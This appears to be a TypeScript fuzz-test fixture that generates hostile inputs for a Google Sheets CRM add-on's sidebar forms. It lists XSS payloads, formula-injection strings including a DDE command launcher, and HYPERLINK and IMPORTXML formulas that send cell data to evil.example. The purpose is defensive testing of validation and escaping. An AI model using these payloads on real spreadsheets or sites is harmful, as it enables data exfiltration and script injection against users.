/**
 * What a hostile or careless sidebar caller can send (fast-check arbitraries): text that Sheets
 * would run or reinterpret (= + - @ ', numbers, dates, TRUE), Unicode (RTL marks, combining
 * characters, emoji, lone surrogates, NUL), markup, huge strings, wrong types, unknown and
 * malformed IDs, server-owned and prototype keys, and whole arguments of any JSON shape.
 */
import fc from 'fast-check';
import { ASKED_SURVEY_REASONS } from '../../src/domain/records/survey';
import { CHURN_CAUSES, WIN_BACK_OUTCOMES } from '../../src/domain/records/win-back';
import {
  CHANNELS,
  CUSTOMER_STATUSES,
  DEPARTMENTS,
  INTERACTION_KINDS,
  NEED_TYPES,
  PRIORITIES,
  RATINGS,
  RENEWAL_INTENTS,
  SIZES,
  SOURCES,
  TICKET_FEEDBACK,
  TICKET_LEVELS,
  TICKET_STATUSES,
  TICKET_TYPES,
  TIERS,
} from '../../src/domain/values';

type Arb = fc.Arbitrary<unknown>;

export const XSS = [
  '<img src=x onerror=alert(1)>',
  '<script>alert(1)</script>',
  '"><svg onload=alert(1)>',
  "'><iframe src=javascript:alert(1)>",
  'javascript:alert(1)',
  '&lt;b&gt; &amp; &#60;',
  '{{constructor.constructor("alert(1)")()}}',
  `$${'{'}alert(1)}`,
] as const;

/** Text that Sheets would run as a formula, or read as something other than the text typed. */
const formulaLike: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    '=1+1',
    '=HYPERLINK("https://evil.example/?"&A1,"Open")',
    '=IMPORTXML("https://evil.example","//a")',
    '=IMAGE("https://evil.example/pixel.png")',
    "=cmd|' /C calc'!A0",
    '+1+1',
    '-1+1',
    "-2+3+cmd|' /C calc'!A0",
    '@SUM(A1:A9)',
    "'=1+1",
    "'",
    '=',
    '+',
    '-',
    '@',
    '==1',
    ' =1+1',
    '\t=1+1',
    '\n=1+1',
    '＝1+1',
    '+86 10 1234 5678',
    '-Minus Labs',
    '@Home',
  ),
  fc
    .tuple(fc.constantFrom('=', '+', '-', '@', "'", "'=", '=='), fc.string({ maxLength: 30 }))
    .map(([p, s]) => p + s),
);

/** Values Sheets would turn into numbers, dates or booleans if written to an automatic cell. */
const lookalike = fc.constantFrom(
  '0001',
  '01380013800',
  '1e5',
  '1,000',
  'TRUE',
  'false',
  '2026-01-01',
  '1/2/2026',
  '12:30',
  '50%',
  '$5.00',
  ' 42 ',
  'NaN',
  'Infinity',
  '-0',
  'null',
  'undefined',
);

const unicode: fc.Arbitrary<string> = fc.oneof(
  fc.string({ unit: 'grapheme', maxLength: 40 }),
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.constantFrom(
    'شركة الأفق للتجارة',
    'Golden Gate עברית',
    '\u202Etxt.exe',
    '\u200F=1+1',
    '\u202E=1+1',
    '\u200B',
    '\uFEFFname',
    'e\u0301\u0301\u0301',
    '👨‍👩‍👧‍👦 Family Co',
    '北京星河科技有限公司',
    'a\u0000b',
    '\uD800',
    'tab\tnew\nline\r',
    'مرحبا <b>bold</b>',
  ),
);

const huge: fc.Arbitrary<string> = fc
  .tuple(
    fc.constantFrom(199, 200, 201, 2000, 5000, 5001, 50_001, 120_000),
    fc.constantFrom('x', '=', 'é', '😀', ' ', '<'),
  )
  .map(([n, c]) => (c === '=' ? `=${'1+'.repeat(n >> 1)}1` : c.repeat(n)));

/** Any hostile text. */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: formulaLike },
  { weight: 2, arbitrary: unicode },
  { weight: 2, arbitrary: fc.constantFrom(...XSS) },
  { weight: 2, arbitrary: lookalike },
  { weight: 1, arbitrary: huge },
  { weight: 1, arbitrary: fc.string() },
);

/** Hostile text that a schema may still accept: short enough, usually not blank. */
export const hostileLine: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: formulaLike },
  { weight: 2, arbitrary: unicode },
  { weight: 2, arbitrary: fc.constantFrom(...XSS) },
  { weight: 2, arbitrary: lookalike },
  { weight: 1, arbitrary: fc.string({ minLength: 1, maxLength: 60 }) },
);

/** Anything JSON can carry that is not text. */
export const wrongType: Arb = fc.oneof(
  fc.integer(),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
  fc.constantFrom(0, -1, 1e308, Number.MAX_SAFE_INTEGER + 2, true, false, null),
  fc.array(fc.jsonValue({ maxDepth: 1 }), { maxLength: 3 }),
  fc.dictionary(fc.string({ maxLength: 6 }), fc.jsonValue({ maxDepth: 1 }), { maxKeys: 3 }),
);

/** A field of a record: values its schema accepts, and values it must refuse. */
export interface Field {
  readonly ok: Arb;
  readonly bad: Arb;
}

export const f = (ok: Arb, bad: Arb = fc.constantFrom(null, 42)): Field => ({ ok, bad });
/** A field that may be left out. */
const optional = (ok: Arb, bad?: Arb): Field =>
  f(fc.oneof({ weight: 6, arbitrary: ok }, fc.constant(undefined)), bad);

const sample = fc.constantFrom('Acme Trading', 'Wang Fang', 'ERP rollout');
/** Hostile text a schema may still accept: short enough, usually not blank. */
const lineOk = fc.oneof({ weight: 1, arbitrary: sample }, { weight: 4, arbitrary: hostileLine });
const tooLong = (max: number) =>
  fc
    .constantFrom(max + 1, max * 3, 120_000)
    .chain((n) => fc.constantFrom('x', '=', '😀', '<').map((c) => c.repeat(n)));
const blank = fc.constantFrom('', ' ', '\t\n', '\u3000');

export const name = f(lineOk, fc.oneof(blank, tooLong(200), fc.constantFrom(null, 7, ['a'], { a: 1 })));
export const line = optional(
  fc.oneof(lineOk, fc.constant('')),
  fc.oneof(tooLong(200), fc.constantFrom(7, true)),
);
export const text = (max = 5000) =>
  optional(
    fc.oneof(
      { weight: 4, arbitrary: lineOk },
      fc.constant(''),
      fc.constant('x'.repeat(max)),
      fc.constant('=1+1\n'.repeat(max / 5 - 1)),
    ),
    fc.oneof(tooLong(max), fc.constantFrom(0, false, { text: 'x' })),
  );
export const requiredText = (max: number) => ({
  ...text(max),
  ok: fc.oneof(lineOk, fc.constant('é'.repeat(max))),
});
export const emailAddr = optional(
  fc.constantFrom(
    '',
    'a@example.com',
    'wang.fang@example.cn',
    '+tag@example.com',
    '-minus@example.com',
    "'quote@example.com",
    "o'brien@example.co.uk",
  ),
  fc.constantFrom(
    '=a@example.com',
    '@example.com',
    'a@@example.com',
    'a@example',
    ' a@example.com',
    'a@example.com\n=1+1',
    5,
  ),
);
export const phone = optional(
  fc.constantFrom(
    '',
    '+86 138 0013 8000',
    '-1234567',
    '0138 0013 8000',
    '(010) 1234-5678',
    '+1 (555) 010-9999',
    ' 12345 ',
  ),
  fc.constantFrom('=1234567', '12', 'call me', '+1+1+1+1', 13800138000),
);
export const day = optional(
  fc.oneof(
    fc.constantFrom('', '2026-11-23', '2024-02-29', '1899-12-30', '1900-01-01', '0001-01-01', '9999-12-31'),
    fc
      .date({ min: new Date('1900-01-01'), max: new Date('2100-01-01'), noInvalidDate: true })
      .map((d) => d.toISOString().slice(0, 10)),
  ),
  fc.constantFrom(
    '2026-02-30',
    '2026-13-01',
    '2026-11-23T10:00',
    '23/11/2026',
    '=TODAY()',
    ' 2026-11-23',
    20261123,
  ),
);
const dayTimeOk = fc.oneof(
  fc.constantFrom('2026-11-23T10:00', '2026-11-20T09:30', '2026-11-23T00:00', '2030-01-01T00:00'),
  fc
    .date({ min: new Date('2000-01-01'), max: new Date('2040-01-01'), noInvalidDate: true })
    .map((d) => d.toISOString().slice(0, 16)),
);
const dayTimeBad = fc.constantFrom(
  '2026-11-23T24:00',
  '2026-11-23T10:60',
  '2026-11-23 10:00',
  '2026-11-23',
  '=NOW()',
  1,
);
export const dayTime = optional(fc.oneof(fc.constant(''), dayTimeOk), dayTimeBad);
export const requiredDayTime = f(dayTimeOk, fc.oneof(dayTimeBad, fc.constant('')));
export const money = optional(
  fc.oneof(
    fc.constantFrom('', 0, 1e308, 0.1),
    fc.integer({ min: 0, max: 10_000_000 }),
    fc.double({ min: 0, max: 1e12, noNaN: true }),
  ),
  fc.constantFrom(-1, '5000', '=5*1000', true),
);
export const score = optional(
  fc.oneof(fc.integer({ min: 1, max: 5 }), fc.constant('')),
  fc.constantFrom(0, 6, 3.5, '4', -1),
);
export const pct = optional(fc.integer({ min: 0, max: 100 }), fc.constantFrom(-1, 101, 50.5, '50', ''));
export const flag = optional(fc.boolean(), fc.constantFrom('true', 1, 0, null));

const enumOf = (values: readonly string[], required = false) =>
  (required ? f : optional)(
    fc.oneof({ weight: 6, arbitrary: fc.constantFrom(...values) }, fc.constant(required ? values[0]! : '')),
    fc.constantFrom('other', values[0]!.toLowerCase(), ` ${values[0]}`, `=${values[0]}`, 1),
  );

export const ENUMS = {
  size: enumOf(SIZES),
  needType: enumOf(NEED_TYPES),
  priority: enumOf(PRIORITIES),
  source: enumOf(SOURCES),
  customerStatus: enumOf(CUSTOMER_STATUSES),
  tier: enumOf(TIERS),
  renewalIntent: enumOf(RENEWAL_INTENTS),
  channel: enumOf(CHANNELS),
  channelRequired: enumOf(CHANNELS, true),
  interactionKind: enumOf(INTERACTION_KINDS, true),
  ticketType: enumOf(TICKET_TYPES, true),
  ticketLevel: enumOf(TICKET_LEVELS),
  department: enumOf(DEPARTMENTS),
  ticketStatus: enumOf(TICKET_STATUSES),
  feedback: enumOf(TICKET_FEEDBACK),
  rating: enumOf(RATINGS),
  cause: enumOf(CHURN_CAUSES, true),
  outcome: enumOf(WIN_BACK_OUTCOMES, true),
  surveyReason: enumOf(ASKED_SURVEY_REASONS, true),
};

/** An ID: one that exists is accepted (the record may still refuse); others are unknown or malformed. */
export function idOf(prefix: string, existing: readonly string[]): Field {
  const digits = prefix === 'C' ? 4 : prefix === 'I' || prefix === 'L' ? 6 : 5;
  const first = existing[0]!;
  return f(
    fc.constantFrom(...existing),
    fc.oneof(
      fc.constantFrom(
        `${prefix}-${'9'.repeat(digits)}`,
        `${prefix}-${'0'.repeat(digits)}`,
        `${prefix}-0${first.slice(2)}`,
        `${prefix.toLowerCase()}${first.slice(1)}`,
        ` ${first}`,
        `${first}\n`,
        `${first} `,
        `=${first}`,
        `${first}\u200F`,
        'L-000001',
        'A-00001',
        'H-000001',
        'C-0001',
        'T-00001',
        '',
      ),
      hostileText,
      wrongType,
    ),
  );
}

/** Keys a caller must not be able to set, or that play tricks on objects. */
const EXTRA_KEYS = [
  'id',
  'created',
  'updated',
  'loggedBy',
  'healthScore',
  'slaStatus',
  'mergedInto',
  'status',
  'breaches',
  'Audit Log',
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
];

/**
 * A record: every field a value its schema accepts, then up to two keys spoiled (a refused value,
 * hostile text, a wrong type, left out) or added (server-owned or prototype keys).
 */
export function recordOf(fields: Record<string, Field>): fc.Arbitrary<Record<string, unknown>> {
  const keys = Object.keys(fields);
  const spoil = fc
    .constantFrom(...keys, ...EXTRA_KEYS)
    .chain((key) =>
      fc.tuple(
        fc.constant(key),
        fc.oneof(
          { weight: 3, arbitrary: fields[key]?.bad ?? hostileText },
          { weight: 1, arbitrary: hostileText },
          { weight: 1, arbitrary: wrongType },
          { weight: 1, arbitrary: fc.constant(undefined) },
        ),
      ),
    );
  return fc
    .tuple(
      fc.record(Object.fromEntries(keys.map((k) => [k, fields[k]!.ok]))),
      fc.oneof({ weight: 3, arbitrary: fc.constant([]) }, fc.array(spoil, { minLength: 1, maxLength: 2 })),
    )
    .map(([record, spoils]) =>
      Object.fromEntries([...Object.entries(record), ...spoils].filter(([, v]) => v !== undefined)),
    );
}

/** Request IDs: short ones repeat (a double click), others are hostile. */
export const requestId: Arb = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom('req-1', 'req-2', '2f0e4b3c-5d7a-4c8e-9a1b-3c5d7e9f1a2b') },
  { weight: 2, arbitrary: fc.uuid() },
  { weight: 1, arbitrary: fc.constantFrom('', 'x'.repeat(41), `${'y'.repeat(40)}-a`, `${'y'.repeat(40)}-b`) },
  { weight: 1, arbitrary: hostileText },
  { weight: 1, arbitrary: wrongType },
  { weight: 1, arbitrary: fc.constant(undefined) },
);

/** A google.script.run submit: usually well wrapped, sometimes any JSON at all. */
export function submitOf(record: fc.Arbitrary<Record<string, unknown>>): fc.Arbitrary<unknown[]> {
  return fc.oneof(
    { weight: 12, arbitrary: fc.record({ requestId, record }).map((s) => [s]) },
    { weight: 1, arbitrary: record.map((r) => [r]) },
    { weight: 1, arbitrary: fc.array(fc.jsonValue({ maxDepth: 3 }), { maxLength: 3 }) },
    {
      weight: 1,
      arbitrary: fc.record({ requestId, record: fc.jsonValue({ maxDepth: 2 }) }).map((s) => [s]),
    },
  );
}

/** Markup the add-on's own email templates use; anything else in an htmlBody came from data. */
const TEMPLATE_TAGS =
  /<\/?(?:p|ol|ul|li|h3|table|thead|tbody|tr|td|th|br|b|strong)>|<a href="[^"<>]*">|<\/a>/g;

/** The first markup in an email's htmlBody that no template put there, with some context. */
export function unescapedMarkup(html: string): string | undefined {
  const rest = html.replace(TEMPLATE_TAGS, '');
  const at = rest.search(/[<>]/);
  return at < 0 ? undefined : rest.slice(Math.max(0, at - 40), at + 60);
}
